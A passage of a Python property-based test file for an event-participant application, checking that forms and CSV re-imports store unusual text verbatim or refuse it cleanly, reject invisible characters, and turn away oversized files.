       email=st.one_of(st.sampled_from(HOSTILE_TEXT), st.emails(), st.just("")))
def test_person_form_stores_text_as_typed_or_refuses_and_writes_nothing(hostile, name, company, dietary, note, email):
    org = hostile.org
    before = _counts(hostile)
    form = participants.PersonForm(name, email, company, dietary=dietary, note=note, accessibility=company[:50])
    try:
        with hostile.database.tenant_session(org.manager) as session:
            pid = participants.add_participant(session, org.event_id, form)
            stored = participants.get_participant(session, org.event_id, pid)
    except participants.InputError as error:
        assert str(error) and "Traceback" not in str(error)
        assert _counts(hostile) == before
        cases["person form refused"] += 1
        return
    assert stored.form.name == " ".join(name.split())
    assert stored.form.company == " ".join(company.split())
    assert stored.form.dietary == " ".join(dietary.split())
    assert stored.form.note == note.strip()
    with hostile.database.tenant_session(org.manager) as session:
        participants.remove_participant(session, org.event_id, pid, stored.version)
    assert _counts(hostile) == before
    cases["person form stored"] += 1


@pytest.mark.parametrize("hidden", INVISIBLE)
def test_invisible_characters_are_refused_by_the_person_form(hostile, hidden):
    org = hostile.org
    before = _counts(hostile)
    for field_name in ("name", "company", "dietary", "accessibility", "note", "email"):
        values = {"name": "Ada", field_name: f"a{hidden}b@example.org" if field_name == "email" else f"x{hidden}y"}
        with hostile.database.tenant_session(org.manager) as session, pytest.raises(
                participants.InputError, match="invisible or control characters"):
            participants.add_participant(session, org.event_id, participants.PersonForm(**values))
    assert _counts(hostile) == before


@PROPERTY
@given(cells=st.lists(st.tuples(HOSTILE_OR_ANY, HOSTILE_OR_ANY, HOSTILE_OR_ANY), min_size=1, max_size=4),
       delimiter=st.sampled_from([",", ";", "\t"]))
def test_a_reimport_with_hostile_cells_reports_every_problem_or_stores_them_as_text(hostile, cells, delimiter):
    from eventflow import participant_import as pi

    org = hostile.org
    rows = [["Full name", "Diet", "Notes", "Shoe size"]] + [[n, d, note, "42"] for n, d, note in cells]
    table = pi.read_table(_csv(rows, delimiter).encode(), 5)
    before = _counts(hostile)
    if table.file_error:
        cases["reimport file refused"] += 1
        return
    with hostile.database.tenant_session(org.manager) as session:
        plan = pi.plan_import(table, pi.suggest_mapping(table.header), pi.event_people(session, org.event_id))
    if not plan.ok:
        assert all(problems for problems in plan.problems.values())
        with hostile.database.tenant_session(org.manager) as session, pytest.raises(pi.InputError):
            pi.apply_import(session, org.event_id, plan)
        assert _counts(hostile) == before
        cases["reimport refused"] += 1
        return
    with hostile.database.tenant_session(org.manager) as session:
        result = pi.apply_import(session, org.event_id, plan)
    added = [r for r in plan.rows if r.status == "added"]
    assert result.added == len(added)
    with hostile.database.owner_connection() as conn:
        for row in added:
            stored = conn.execute(text("SELECT dietary, note FROM participants WHERE event_id = :e AND full_name = :n "
                                       "ORDER BY created_at DESC LIMIT 1"),
                                  {"e": org.event_id, "n": row.values["name"]}).one()
            assert tuple(stored) == (row.values.get("dietary"), row.values.get("note"))
        conn.execute(text("DELETE FROM participants WHERE event_id = :e AND NOT id = ANY (CAST(:keep AS uuid[]))"),
                     {"e": org.event_id, "keep": [str(p) for p in org.participant_ids]})
    cases["reimport stored"] += 1


def test_reimport_refuses_a_file_of_too_many_columns_or_a_giant_cell():
    from eventflow import participant_import as pi

    assert "columns; a participant list has at most" in pi.read_table(("name," * 200_000 + "\nA\n").encode(), 5).file_error
    giant = pi.read_table(b"name,note\nAda," + b"x" * 200_000 + b"\n", 5).file_error
    assert "characters: this is not a participant list" in giant
